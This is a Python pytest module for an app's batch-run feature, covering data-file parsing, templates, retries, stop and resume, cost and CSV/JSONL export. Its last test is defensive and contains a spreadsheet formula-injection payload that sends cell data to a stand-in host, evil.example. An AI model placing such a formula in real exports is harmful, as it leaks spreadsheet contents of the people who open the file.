"""Batch runs (core): data files, templates, variants, 429 retries, Stop/Resume, cost, export.

Everything runs against the loopback server (tests/loopback_server.py; its "batch" block
has the ratelimit-once, fail-if and no-usage scenarios) through the real Runner.
"""

from __future__ import annotations

import asyncio
import csv
import json
import math
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.core.batch import (
    BATCH_KIND,
    FAILED,
    OK,
    PENDING,
    RUNNING,
    WAITING,
    BatchFileError,
    BatchInputError,
    BatchRun,
    BatchSpec,
    DataError,
    DataSet,
    Prices,
    check_match,
    check_template,
    export_csv,
    export_jsonl,
    load_data,
    parse_data,
    placeholders,
    read_batch_file,
    render,
    tokens_for,
    write_batch_file,
)
from app.core.batch.cost import COUNTED, ESTIMATED, USAGE
from app.core.batch.runner import concurrency_for
from app.core.compare import CompareTarget
from app.core.connections import Connections
from app.core.errors import RateLimitError
from app.core.history import HistoryStore
from app.core.keys import KeyStore
from app.core.profiles import LOCAL_MODEL, Profile, ProfileError, ProfileStore
from app.core.result import ResultBuilder
from app.core.runs import Runner
from app.core.token_count import estimate_tokens

# -- data files -----------------------------------------------------------------------------

TRICKY_CSV = (
    "\ufeffquestion,answer,note\r\n"
    '"Hello, world","yes, really",plain\r\n'
    '"two\r\nlines","say ""hi""",\r\n'
    "你好，世界,是的,中文\r\n"
    "\r\n"
    "short\r\n"
)


def test_csv_with_bom_quoted_commas_newlines_and_chinese(tmp_path):
    path = tmp_path / "data.csv"
    path.write_bytes(TRICKY_CSV.encode("utf-8"))
    data = load_data(path)
    assert data.columns == ("question", "answer", "note")  # no BOM in the first name
    assert [dict(r) for r in data.rows] == [
        {"question": "Hello, world", "answer": "yes, really", "note": "plain"},
        {"question": "two\r\nlines", "answer": 'say "hi"', "note": ""},
        {"question": "你好，世界", "answer": "是的", "note": "中文"},
        {"question": "short", "answer": "", "note": ""},  # padded; the blank line skipped
    ]
    assert data.format == "csv"


def test_csv_without_bom_and_trailing_delimiters(tmp_path):
    path = tmp_path / "data.CSV"
    path.write_text("a,b,\n1,2,\n", encoding="utf-8")
    data = load_data(path)
    assert data.columns == ("a", "b")
    assert dict(data.rows[0]) == {"a": "1", "b": "2"}


def test_tsv(tmp_path):
    path = tmp_path / "data.tsv"
    path.write_bytes("\ufeff名字\t问题\n张三\t今天天气怎么样, 好吗?\n".encode())
    data = load_data(path)
    assert data.columns == ("名字", "问题")
    assert dict(data.rows[0]) == {"名字": "张三", "问题": "今天天气怎么样, 好吗?"}


def test_jsonl_values_that_are_not_text_are_json_dumped(tmp_path):
    path = tmp_path / "data.jsonl"
    lines = [
        {"q": "你好", "n": 3, "ok": True, "none": None, "list": [1, "二"]},
        {"q": "second", "extra": {"a": 1}},
    ]
    text = "\ufeff" + "\n".join(json.dumps(x, ensure_ascii=False) for x in lines) + "\n\n"
    path.write_text(text, encoding="utf-8")
    data = load_data(path)
    assert data.columns == ("q", "n", "ok", "none", "list", "extra")
    assert dict(data.rows[0]) == {"q": "你好", "n": "3", "ok": "true", "none": "null",
                                  "list": '[1, "二"]', "extra": ""}  # fmt: skip
    assert data.rows[1]["extra"] == '{"a": 1}' and data.rows[1]["n"] == ""


def test_a_json_array_of_objects(tmp_path):
    path = tmp_path / "data.json"
    path.write_text('[{"q": "a"}, {"q": "b"}]', encoding="utf-8")
    assert [r["q"] for r in load_data(path).rows] == ["a", "b"]


@pytest.mark.parametrize(
    ("name", "content", "code", "words"),
    [
        ("d.csv", "a,a\n1,2\n", "batch.data_duplicate_column", "a"),
        ("d.csv", "a,,b\n1,2,3\n", "batch.data_unnamed_column", "Column 2"),
        ("d.csv", "a,b\n1,2,3\n", "batch.data_extra_cells", "Line 2"),
        ("d.csv", "a,b\n", "batch.data_empty", "no rows"),
        ("d.csv", "", "batch.data_empty", "no rows"),
        ("d.csv", 'a\n"unterminated\n', None, None),  # the csv module accepts this at EOF
        ("d.jsonl", '{"a": 1}\n{"a": \n', "batch.data_not_json", "Line 2"),
        ("d.jsonl", '{"a": 1}\n\n[1, 2]\n', "batch.data_not_object", "Line 3"),
        ("d.jsonl", '"text"\n', "batch.data_not_object", "Line 1"),
        ("d.txt", "a\n1\n", "batch.data_format", ".csv"),
    ],
)
def test_data_problems_name_the_file_and_line(tmp_path, name, content, code, words):
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    if code is None:
        load_data(path)
        return
    with pytest.raises(DataError) as caught:
        load_data(path)
    assert caught.value.msg.code == code
    assert words in str(caught.value) and str(path) in str(caught.value)


def test_data_that_is_not_utf8_or_missing(tmp_path):
    path = tmp_path / "d.csv"
    path.write_bytes("a\n中文\n".encode("gbk"))
    with pytest.raises(DataError, match="not UTF-8") as caught:
        load_data(path)
    assert caught.value.msg.code == "batch.data_not_utf8"
    with pytest.raises(DataError, match="cannot be read"):
        load_data(tmp_path / "missing.csv")


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=80), st.sampled_from(["csv", "tsv", "jsonl"]))
def test_parsing_raises_only_data_error(text, fmt):
    try:
        data = parse_data(text, fmt)
    except DataError:
        return
    assert data.rows and all(set(r) == set(data.columns) for r in data.rows)


# -- templates ------------------------------------------------------------------------------


def test_placeholders_and_render():
    text = "Q: {{question}} / {{ 名字 }} / {{question}} / {{}} / {single}"
    assert placeholders(text, "{{suffix col}}") == ["question", "名字", "suffix col"]
    values = {"question": "is {{名字}} here?", "名字": "张三"}
    # one pass: a value holding a placeholder is not filled again; unknown ones stay
    filled = "Q: is {{名字}} here? / 张三 / is {{名字}} here? / {{}} / {single}"
    assert render(text, values) == filled
    assert render("{{missing}}", {}) == "{{missing}}"


def test_check_names_missing_and_unused_columns():
    check = check_template(["{{q}} {{missing}}", "{{suffix_col}}"], ["q", "unused", "answer"],
                           "answer")  # fmt: skip
    assert [m.code for m in check.errors] == ["batch.missing_column", "batch.missing_column"]
    assert str(check.errors[0]) == "The placeholder {{missing}} has no column in the data."
    assert [str(m) for m in check.notes] == ["The column unused is not used by the template."]
    check = check_template(["no placeholder"], ["a"], "nope")
    assert [m.code for m in check.errors] == ["batch.expected_missing"]
    assert [m.code for m in check.notes] == ["batch.no_placeholder", "batch.unused_column"]
    assert "{{a}}" in str(check.notes[0])


def test_spec_check_before_anything_is_sent():
    data = DataSet.from_rows([{"q": "a", "re": "([a-z"}])
    spec = BatchSpec(prompt="{{q}}", variants=[], concurrency=0, match="fuzzy")
    codes = [m.code for m in spec.check(data).errors]
    assert codes == ["batch.variant_count", "batch.concurrency", "batch.match_mode"]
    spec = BatchSpec(
        prompt="{{q}}",
        parameters={"best_of": 3, "stream": True},
        variants=[CompareTarget("p", "m"), CompareTarget("p", "")],
        expected_column="re",
        match="regex",
    )
    errors = spec.check(data).errors
    assert [m.code for m in errors] == ["batch.bad_regex", "batch.variant_invalid",
                                        "batch.variant_invalid"]  # fmt: skip
    assert str(errors[0]).startswith("Row 1: the expected value is not a regular expression")
    assert "best_of" in str(errors[1]) and "model" in str(errors[2])
    with pytest.raises(BatchInputError) as caught:
        BatchRun(spec, data)
    assert caught.value.errors == errors
    listed = BatchSpec(prompt=["a", "b"], variants=[CompareTarget("p", "m")])
    assert listed.check(data).errors[0].code == "batch.prompt_not_text"


def test_match_modes():
    assert check_match("exact", " Positive\n", "Positive")
    assert not check_match("exact", "Positive!", "Positive")
    assert check_match("contains", "答案是北京。", "北京")
    assert check_match("regex", "The answer is 42.", r"\b4\d\b")
    assert not check_match("regex", "x", "([")  # an invalid pattern never passes


# -- batch files ----------------------------------------------------------------------------


def test_batch_file_round_trip(tmp_path):
    (tmp_path / "data").mkdir()
    spec = BatchSpec(
        name="情感 batch",
        prompt="Review: {{review}}\nSentiment:",
        parameters={"max_tokens": 3, "suffix": " ({{id}})", "top_k": 40, "stream": False},
        variants=[
            CompareTarget("Local model", "smol", {"temperature": 0.2, "mirostat": 2}),
            CompareTarget("relay", "gpt", {}),
        ],
        data_path=str(tmp_path / "data" / "reviews.csv"),
        expected_column="label",
        match="contains",
        loglik=True,
        concurrency=8,
    )
    path = tmp_path / "sentiment.batch.json"
    write_batch_file(path, spec)
    stored = json.loads(path.read_text(encoding="utf-8"))
    assert stored["kind"] == BATCH_KIND and stored["schema_version"] == 1
    assert stored["data_path"] == "data/reviews.csv"  # relative: they move together
    stored["from_the_future"] = [1]
    path.write_text(json.dumps(stored), encoding="utf-8")
    loaded = read_batch_file(path)
    assert loaded.data_path == str(tmp_path / "data" / "reviews.csv")
    assert loaded.extra == {"from_the_future": [1]}
    loaded.extra = {}
    assert loaded == spec
    elsewhere = BatchSpec(prompt="x", data_path="/somewhere/else.csv")
    write_batch_file(path, elsewhere)
    assert read_batch_file(path).data_path == "/somewhere/else.csv"


@pytest.mark.parametrize(
    ("document", "words"),
    [
        ({"kind": "completion-playground/preset", "schema_version": 1}, "no matching 'kind'"),
        ({"kind": BATCH_KIND}, "schema_version"),
        ({"kind": BATCH_KIND, "schema_version": 1, "parameters": {"temperature": "hot"}},
         "temperature"),
        ({"kind": BATCH_KIND, "schema_version": 1, "variants": [{"profile": 1}]}, "variant 1"),
        ({"kind": BATCH_KIND, "schema_version": 1,
          "variants": [{"profile": "p", "model": "m", "overrides": {"prompt": "x"}}]},
         "cannot be overridden"),
        ({"kind": BATCH_KIND, "schema_version": 1, "variants": [{}] * 5}, "at most 4"),
        ({"kind": BATCH_KIND, "schema_version": 1, "concurrency": 99}, "concurrency"),
        ({"kind": BATCH_KIND, "schema_version": 1, "match": "fuzzy"}, "match"),
    ],
)  # fmt: skip
def test_bad_batch_files_are_named(tmp_path, document, words):
    path = tmp_path / "b.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    with pytest.raises(BatchFileError) as caught:
        read_batch_file(path)
    assert words in str(caught.value) and str(path) in str(caught.value)
    assert caught.value.msg.code == "batch.file_invalid"


json_scalars = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.text(max_size=12)
)
json_values = st.recursive(
    json_scalars,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3)
    ),
    max_leaves=10,
)
BATCH_FIELDS = ("schema_version", "kind", "name", "prompt", "parameters", "variants",
                "data_path", "data_format", "expected_column", "match", "loglik",
                "concurrency")  # fmt: skip
GOOD_BATCH = {"schema_version": 1, "kind": BATCH_KIND, "prompt": "{{q}}",
              "variants": [{"profile": "p", "model": "m", "overrides": {}}]}  # fmt: skip
variant_documents = st.dictionaries(
    st.sampled_from(["profile", "model", "overrides"]),
    json_values | st.dictionaries(st.sampled_from(["temperature", "n", "stop", "x"]), json_values),
)
batch_documents = st.dictionaries(
    st.sampled_from(BATCH_FIELDS),
    json_values | st.lists(variant_documents, max_size=5),
    max_size=4,
).map(lambda changes: {**GOOD_BATCH, **changes})


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.binary(max_size=200)
    | json_values.map(lambda v: json.dumps(v).encode())
    | batch_documents.map(lambda v: json.dumps(v).encode())
    | st.just(b"[" * 100_000)
)
def test_batch_file_reader_raises_only_its_error(tmp_path_factory, content):
    path = tmp_path_factory.mktemp("fuzz") / "b.json"
    path.write_bytes(content)
    try:
        spec = read_batch_file(path)
    except BatchFileError:
        return
    spec.check(DataSet.from_rows([{"q": "x"}]))  # a spec that reads can be checked
    write_batch_file(path, spec)
    assert read_batch_file(path).to_json() == spec.to_json()


# -- profile prices -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("prices", "field"),
    [
        ([1, 2], "prices:"),
        ({"prompt": 1}, "prices.completion"),
        ({"prompt": -1, "completion": 1}, "prices.prompt"),
        ({"prompt": True, "completion": 1}, "prices.prompt"),
        ({"prompt": float("inf"), "completion": 1}, "prices.prompt"),
        ({"prompt": 1, "completion": "2"}, "prices.completion"),
        ({"prompt": 1, "completion": 2, "currency": ""}, "prices.currency"),
        ({"prompt": 1, "completion": 2, "currency": 5}, "prices.currency"),
    ],
)
def test_bad_prices_are_refused_naming_the_field(prices, field):
    data = {"name": "p", "base_url": "http://127.0.0.1:9/v1", "prices": prices}
    with pytest.raises(ProfileError, match=field.replace(".", r"\.")):
        Profile.from_json(data)
    with pytest.raises(ProfileError, match=field.replace(".", r"\.")):
        Profile(name="p", base_url="http://127.0.0.1:9/v1", prices=prices).validate()


def test_prices_are_saved_and_loaded(tmp_path):
    prices = {"prompt": 0.5, "completion": 1.5, "currency": "¥", "cached": 0.1}
    profile = Profile(name="relay", base_url="http://127.0.0.1:9/v1", prices=prices)
    store = ProfileStore(tmp_path)
    store.save([profile], "relay")
    loaded = store.load()
    assert loaded.problem is None
    assert loaded.profiles[0].prices == prices  # a newer version's key is kept
    assert Prices.of(loaded.profiles[0]) == Prices(0.5, 1.5, "¥")
    assert Prices.of(Profile(name="x")) is None
    assert Prices.from_json({"prompt": 1, "completion": 1}).currency == "USD"


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(json_values | st.dictionaries(st.sampled_from(["prompt", "completion", "currency"]),
                                     json_values))  # fmt: skip
def test_any_prices_value_loads_or_is_reported(tmp_path_factory, prices):
    folder = tmp_path_factory.mktemp("prices")
    document = {"schema_version": 1, "profiles": [
        {"name": "p", "base_url": "http://127.0.0.1:9/v1", "prices": prices}]}  # fmt: skip
    (folder / "profiles.json").write_text(json.dumps(document), encoding="utf-8")
    loaded = ProfileStore(folder).load()  # never raises
    if loaded.problem is not None:
        assert "prices" in str(loaded.problem)
    else:
        assert loaded.profiles[0].prices == prices


# -- tokens and cost ------------------------------------------------------------------------


def _result(text="", usage=None, chunks=0, tokens=0, streamed=True):
    from app.core.logprobs import TokenLogprob

    builder = ResultBuilder(1, streamed=streamed)
    choice = builder.result.choice(0)
    choice.parts = [text] if text else []
    choice.chunks = chunks
    choice.tokens = [TokenLogprob("t", -0.1)] * tokens
    builder.result.usage = usage
    return builder.finish()


def test_tokens_come_from_usage_else_counted_else_estimated():
    usage = {"prompt_tokens": 7, "completion_tokens": 3}
    assert tokens_for("prompt", _result("abc", usage)) == (
        tokens_for("prompt", _result("abc", usage))
    )
    exact = tokens_for("prompt", _result("abc", usage))
    assert (exact.prompt, exact.completion, exact.estimated) == (7, 3, False)
    counted = tokens_for("你好世界", _result("abc", None, chunks=5, tokens=4))
    assert (counted.prompt, counted.prompt_source) == (4, ESTIMATED)
    assert (counted.completion, counted.completion_source) == (4, COUNTED)  # logprob tokens
    chunks = tokens_for("p", _result("abc", None, chunks=5))
    assert (chunks.completion, chunks.completion_source) == (5, COUNTED)
    whole = tokens_for("p", _result("一段中文回答 and some words", None, chunks=1, streamed=False))
    assert whole.completion == estimate_tokens("一段中文回答 and some words")
    assert whole.completion_source == ESTIMATED and whole.estimated
    zeros = tokens_for("prompt", _result("abc", {"prompt_tokens": 0, "completion_tokens": 0},
                                         chunks=2))  # fmt: skip
    assert (zeros.prompt_source, zeros.completion_source) == (ESTIMATED, COUNTED)
    odd = tokens_for("p", _result("", {"prompt_tokens": "x", "completion_tokens": 0}))
    assert (odd.prompt_source, odd.completion, odd.completion_source) == (ESTIMATED, 0, USAGE)
    assert Prices(2.0, 4.0).cost(exact) == pytest.approx((7 * 2 + 3 * 4) / 1000)


# -- running against the loopback server ----------------------------------------------------


@pytest.fixture
async def connections():
    conns = Connections(KeyStore())
    yield conns
    await conns.aclose()


def profile_for(api, name, scenario=None, prices=None, **params):
    return Profile(name=name, base_url=api.base_url(scenario, **params), prices=prices)


def completion_requests(api):
    return [r for r in api.requests if r.path == "/v1/completions"]


def rows(n, **extra):
    return DataSet.from_rows([{"q": f"question {i}", **extra} for i in range(n)])


async def test_placeholders_and_variants_reach_the_server(api, connections, tmp_path):
    data = parse_data('q,who\n"Hello, 世界","a\nb"\nplain,张三\n', "csv")
    spec = BatchSpec(
        prompt="Q: {{q}}\nA:",
        parameters={"max_tokens": 2, "suffix": " -- {{who}}", "stream": False},
        variants=[
            CompareTarget("one", "m1"),
            CompareTarget("two", "m2", {"temperature": 0.5, "mirostat": 2}),
        ],
    )
    history = HistoryStore(tmp_path / "h.sqlite3")
    batch = BatchRun(spec, data)
    profiles = {"one": profile_for(api, "one"), "two": profile_for(api, "two", "no-usage")}
    progress = await batch.run(Runner(connections, history), profiles)
    assert progress.finished and progress.done == progress.total == 4 and not progress.stopped
    sent = sorted((r.body["model"], r.body["prompt"], r.body["suffix"], r.body.get("mirostat"))
                  for r in completion_requests(api))  # fmt: skip
    assert sent == [
        ("m1", "Q: Hello, 世界\nA:", " -- a\nb", None),
        ("m1", "Q: plain\nA:", " -- 张三", None),
        ("m2", "Q: Hello, 世界\nA:", " -- a\nb", 2),
        ("m2", "Q: plain\nA:", " -- 张三", 2),
    ]
    assert [(c.row, c.variant) for c in batch.cells] == [(0, 0), (0, 1), (1, 0), (1, 1)]
    assert all(c.state == OK and c.text == "Hello," for c in batch.cells)
    assert batch.cell(1, 1).request.params["temperature"] == 0.5
    # every cell is one run in the history, all in the batch's group
    records = [history.get(c.record_id) for c in batch.cells]
    assert {r.group_id for r in records} == {batch.batch_id}
    assert batch.batch_id.startswith("batch-")
    assert sorted(r.model for r in records) == ["m1", "m1", "m2", "m2"]
    history.close()


async def test_concurrency_is_limited_per_profile(api, connections):
    spec = BatchSpec(prompt="{{q}}", parameters={"max_tokens": 1, "stream": False},
                     variants=[CompareTarget("a", "m"), CompareTarget("b", "m")],
                     concurrency=2)  # fmt: skip
    batch = BatchRun(spec, rows(8))
    running: dict[str, int] = {"a": 0, "b": 0}
    peak = {"a": 0, "b": 0, "all": 0}

    def on_cell(cell):
        name = "ab"[cell.variant]
        running[name] = sum(1 for c in batch.cells if c.variant == cell.variant
                            and c.state == RUNNING)  # fmt: skip
        peak[name] = max(peak[name], running[name])
        peak["all"] = max(peak["all"], sum(running.values()))

    profiles = {"a": profile_for(api, "a", first_delay=0.05),
                "b": profile_for(api, "b", first_delay=0.05)}  # fmt: skip
    await batch.run(Runner(connections), profiles, on_cell=on_cell)
    assert peak == {"a": 2, "b": 2, "all": 4}
    assert batch.progress().done == 16
    # llama-cpp-python (the local model's server) ends a streamed answer early when another
    # request waits: it gets one request at a time
    assert concurrency_for(Profile(name="x", kind=LOCAL_MODEL), 8) == 1
    assert concurrency_for(Profile(name="x", server="llama-cpp-python"), 8) == 1
    assert concurrency_for(Profile(name="x", server="vllm"), 8) == 8


async def test_a_429_waits_retries_and_shows_in_the_progress(api, connections):
    tag = f"retry-{time.monotonic()}"
    spec = BatchSpec(prompt="{{q}}", parameters={"max_tokens": 2, "stream": False},
                     variants=[CompareTarget("p", "m")], concurrency=3)  # fmt: skip
    batch = BatchRun(spec, rows(3))
    seen = []
    waits = []

    def on_cell(cell):
        if cell.state == WAITING:
            waits.append(cell.retry_in)

    started = time.monotonic()
    profile = profile_for(api, "p", "ratelimit-once", retry_after="0.2", tag=tag)
    await batch.run(Runner(connections), {"p": profile}, on_cell=on_cell,
                    on_progress=seen.append)  # fmt: skip
    assert time.monotonic() - started >= 0.2
    assert all(c.state == OK and c.attempts == 2 for c in batch.cells)
    assert waits == [0.2, 0.2, 0.2]
    assert max(p.retrying for p in seen) >= 1
    assert seen[-1].retrying == 0 and seen[-1].done == 3
    assert len(completion_requests(api)) == 6


async def test_retries_are_bounded_and_waits_capped(api, connections):
    spec = BatchSpec(prompt="{{q}}", variants=[CompareTarget("p", "m")])
    batch = BatchRun(spec, rows(2), max_tries=3, max_wait=0.05)
    started = time.monotonic()
    # the server asks for 100 s: the wait is capped at max_wait
    await batch.run(Runner(connections), {"p": profile_for(api, "p", "429", retry_after=100)})
    assert time.monotonic() - started < 5
    for cell in batch.cells:
        assert cell.state == FAILED and cell.attempts == 3
        assert isinstance(cell.outcome.result.error, RateLimitError)
        assert cell.tokens is None and cell.cost is None  # a refused request costs nothing
    assert len(completion_requests(api)) == 6
    assert batch.progress().failed == 2


async def test_stop_keeps_finished_cells_and_resume_runs_the_rest(api, connections, tmp_path):
    spec = BatchSpec(prompt="{{q}}", parameters={"max_tokens": 1, "stream": False},
                     variants=[CompareTarget("p", "m")], concurrency=2)  # fmt: skip
    batch = BatchRun(spec, rows(12))
    history = HistoryStore(tmp_path / "h.sqlite3")
    runner = Runner(connections, history)

    def on_cell(cell):
        if cell.state == OK and batch.progress().done == 3:
            batch.stop()

    slow = {"p": profile_for(api, "p", first_delay=0.2)}
    progress = await batch.run(runner, slow, on_cell=on_cell)
    assert progress.stopped and not progress.active and not progress.finished
    assert progress.running == 0 and progress.retrying == 0
    done_first = [c for c in batch.cells if c.done]
    assert 3 <= len(done_first) <= 4
    assert all(c.state in (OK, PENDING) for c in batch.cells)
    assert progress.done == len(done_first)  # a cancelled run in flight is not counted
    first_prompts = {c.prompt for c in done_first}
    api.clear()
    # Resume (the profile may have changed meanwhile: it is looked up again)
    progress = await batch.run(runner, {"p": profile_for(api, "p")})
    assert progress.finished and not progress.stopped
    resent = {r.body["prompt"] for r in completion_requests(api)}
    assert resent == {c.prompt for c in batch.cells} - first_prompts  # done cells skipped
    assert all(c.state == OK for c in batch.cells)
    # every run is in the batch's history group, the stopped ones as cancelled
    records = [history.get(c.record_id) for c in batch.cells]
    assert {r.group_id for r in records} == {batch.batch_id} and {r.status for r in records} == {
        "ok"
    }
    history.close()


async def test_cancelling_the_task_stops_too(api, connections):
    spec = BatchSpec(prompt="{{q}}", variants=[CompareTarget("p", "m")], concurrency=2)
    batch = BatchRun(spec, rows(6))
    task = asyncio.ensure_future(
        batch.run(Runner(connections), {"p": profile_for(api, "p", first_delay=5)})
    )
    for _ in range(200):
        await asyncio.sleep(0.01)
        if batch.progress().running == 2:
            break
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    progress = batch.progress()
    assert progress.done == 0 and progress.running == 0 and progress.stopped
    assert all(c.state == PENDING and c.outcome is None for c in batch.cells)
    await asyncio.sleep(0)
    assert not batch.running


async def test_a_failed_row_and_retrying_failed_ones(api, connections):
    data = DataSet.from_rows([{"q": "fine", "a": "Hello"}, {"q": "BAD row", "a": "Hello"},
                              {"q": "also fine", "a": "nope"}])  # fmt: skip
    spec = BatchSpec(prompt="{{q}}", parameters={"max_tokens": 2, "stream": False},
                     variants=[CompareTarget("p", "m")], expected_column="a",
                     match="contains")  # fmt: skip
    batch = BatchRun(spec, data)
    profile = profile_for(api, "p", "fail-if", contains="BAD", status=503)
    progress = await batch.run(Runner(connections), {"p": profile})
    assert [c.state for c in batch.cells] == [OK, FAILED, OK]
    failed = batch.cells[1]
    assert failed.error.code == "http.status" and "503" in str(failed.error)
    assert failed.passed is False and failed.text == ""
    assert progress.failed == 1 and progress.finished
    (summary,) = batch.summary()
    assert (summary.ok, summary.failed, summary.checked, summary.passed) == (2, 1, 3, 1)
    assert summary.pass_rate == pytest.approx(1 / 3)
    # Resume skips done cells, failed ones included, unless asked to retry them
    api.clear()
    await batch.run(Runner(connections), {"p": profile_for(api, "p")})
    assert completion_requests(api) == []
    await batch.run(Runner(connections), {"p": profile_for(api, "p")}, retry_failed=True)
    assert [r.body["prompt"] for r in completion_requests(api)] == ["BAD row"]
    assert [c.state for c in batch.cells] == [OK, OK, OK]


async def test_an_unknown_profile_is_an_error_before_anything_is_sent(api, connections):
    spec = BatchSpec(prompt="{{q}}", variants=[CompareTarget("p", "m"), CompareTarget("gone", "m")])
    batch = BatchRun(spec, rows(2))
    with pytest.raises(BatchInputError) as caught:
        await batch.run(Runner(connections), {"p": profile_for(api, "p")}.get)
    assert str(caught.value) == "Variant 2: there is no profile named gone."
    assert completion_requests(api) == []


async def test_cost_sums_with_usage_counted_and_estimated_tokens(api, connections):
    prices = {"prompt": 1.0, "completion": 2.0, "currency": "¥"}
    data = DataSet.from_rows([{"q": "one two three"}, {"q": "四五六"}])
    base = {"max_tokens": 4}
    spec = BatchSpec(
        prompt="{{q}}",
        parameters=base,
        variants=[
            CompareTarget("usage", "m", {"stream": False}),
            CompareTarget("counted", "m", {"logprobs": 1}),  # streamed, no usage chunk
            CompareTarget("estimated", "m", {"stream": False}),
        ],
    )
    batch = BatchRun(spec, data)
    profiles = {
        "usage": profile_for(api, "usage", prices=prices),
        "counted": profile_for(api, "counted", "no-usage", prices=prices),
        "estimated": profile_for(api, "estimated", "no-usage", prices=prices),
    }
    await batch.run(Runner(connections), profiles)
    exact, counted, estimated = batch.summary()
    # usage: the server's figures (the loopback counts prompt words; 4 tokens each)
    assert [c.tokens.prompt for c in batch.cells if c.variant == 0] == [3, 1]
    assert exact.prompt_tokens == 4 and exact.completion_tokens == 8
    assert not exact.tokens_estimated
    assert exact.cost == pytest.approx((4 * 1.0 + 8 * 2.0) / 1000) and exact.currency == "¥"
    # counted: the logprob tokens; the prompt estimated
    prompts = estimate_tokens("one two three") + estimate_tokens("四五六")
    assert counted.completion_tokens == 8 and counted.prompt_tokens == prompts
    assert counted.tokens_estimated
    assert {c.tokens.completion_source for c in batch.cells if c.variant == 1} == {COUNTED}
    # estimated: the whole answer came at once, without logprobs
    outputs = sum(estimate_tokens(c.text) for c in batch.cells if c.variant == 2)
    assert estimated.completion_tokens == outputs and estimated.prompt_tokens == prompts
    assert {c.tokens.completion_source for c in batch.cells if c.variant == 2} == {ESTIMATED}
    assert estimated.cost == pytest.approx((prompts * 1.0 + outputs * 2.0) / 1000)
    cells_cost = math.fsum(c.cost for c in batch.cells if c.variant == 2)
    assert estimated.cost == pytest.approx(cells_cost)
    # latency figures are there too
    assert exact.mean_latency > 0 and exact.p95_latency >= exact.mean_latency * 0.5


async def test_expected_log_likelihood_from_echo_and_logprobs(api, connections):
    data = DataSet.from_rows([{"review": "Great phone.", "label": " Positive"},
                              {"review": "Broke in a week.", "label": " Negative"}])  # fmt: skip
    spec = BatchSpec(
        prompt="Review: {{review}} Sentiment:",
        parameters={"max_tokens": 2, "stream": False},
        variants=[CompareTarget("echo", "m"), CompareTarget("no-echo", "m")],
        expected_column="label",
        loglik=True,
        concurrency=1,
    )
    batch = BatchRun(spec, data)
    profiles = {"echo": profile_for(api, "echo", prices={"prompt": 1, "completion": 1}),
                "no-echo": profile_for(api, "no-echo", "ignore-echo")}  # fmt: skip
    await batch.run(Runner(connections), profiles)
    # the loopback echoes the prompt as words; word j gets logprob -0.1 * (j % 7) - 0.05
    # (counting from 3): " Positive" is the 5th word (j = 7), " Negative" the 7th (j = 9)
    first, second = batch.cell(0, 0), batch.cell(1, 0)
    assert first.loglik.value == pytest.approx(-0.05) and first.loglik.tokens == 1
    assert second.loglik.value == pytest.approx(-0.25)
    assert first.score_cost is not None
    scoring = [r.body for r in completion_requests(api) if r.body.get("echo")]
    assert {b["prompt"] for b in scoring} == {
        "Review: Great phone. Sentiment: Positive",
        "Review: Broke in a week. Sentiment: Negative",
    }
    assert all(b["max_tokens"] == 0 and b["logprobs"] == 1 for b in scoring)
    # a server that ignores echo: said once, then not asked again
    no_echo = [batch.cell(0, 1), batch.cell(1, 1)]
    assert all(c.loglik.value is None and c.loglik.problem.code == "score.ignored_echo"
               for c in no_echo)  # fmt: skip
    assert len(scoring) == 3
    (echo_summary, no_echo_summary) = batch.summary()
    assert echo_summary.mean_loglik == pytest.approx(-0.15)
    assert no_echo_summary.mean_loglik is None


async def test_export_csv_and_jsonl(api, connections, tmp_path):
    data = parse_data('prompt,q\n"x, y","你好\n世界"\n', "csv")
    spec = BatchSpec(prompt="{{q}} {{prompt}}", parameters={"max_tokens": 2, "stream": False},
                     variants=[CompareTarget("p", "m")], expected_column=None)  # fmt: skip
    batch = BatchRun(spec, data)
    await batch.run(Runner(connections), {"p": profile_for(api, "p", prices={
        "prompt": 1, "completion": 1, "currency": "USD"})})  # fmt: skip
    export_csv(batch, tmp_path / "out.csv")
    export_jsonl(batch, tmp_path / "out.jsonl")
    raw = (tmp_path / "out.csv").read_bytes()
    assert raw.startswith("\ufeff".encode())  # spreadsheets read the Chinese right
    table = load_data(tmp_path / "out.csv")
    assert table.columns[:5] == ("row", "variant", "variant_label", "prompt (data)", "q")
    (row,) = table.rows
    assert row["q"] == "你好\n世界" and row["prompt"] == "你好\n世界 x, y"
    assert row["output"] == "Hello," and row["status"] == "ok" and row["cost"]
    (line,) = (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()
    record = json.loads(line)
    assert record["values"] == {"prompt": "x, y", "q": "你好\n世界"}
    assert record["prompt"] == "你好\n世界 x, y" and record["text"] == "Hello,"
    assert record["choices"][0]["finish_reason"] == "length"
    assert record["usage"]["completion_tokens"] == 2 and record["error"] is None
    assert record["tokens"]["estimated"] is False and record["currency"] == "USD"
    assert record["timings"]["total"] > 0


async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_text(
    api, connections, tmp_path
):
    """A model's (or a relay's) ``=HYPERLINK(…)`` became a live link in the exported CSV:
    text cells starting like a formula get a leading ' in the CSV, numbers stay numbers,
    and the JSON Lines keep the exact text."""
    link = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    data = parse_data("q,=cmd,answer\n+SUM(1),-5,@A1\n", "csv")
    spec = BatchSpec(prompt="{{q}}", parameters={"max_tokens": 2, "stream": False},
                     variants=[CompareTarget("p", "m")], expected_column="answer")  # fmt: skip
    batch = BatchRun(spec, data)
    await batch.run(Runner(connections), {"p": profile_for(api, "p", "hostile", text=link)})
    export_csv(batch, tmp_path / "out.csv")
    export_jsonl(batch, tmp_path / "out.jsonl")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as f:
        header, row = list(csv.reader(f))
    cells = dict(zip(header, row, strict=True))
    assert "'=cmd" in header
    assert cells["output"] == "'" + link and cells["prompt"] == "'+SUM(1)"
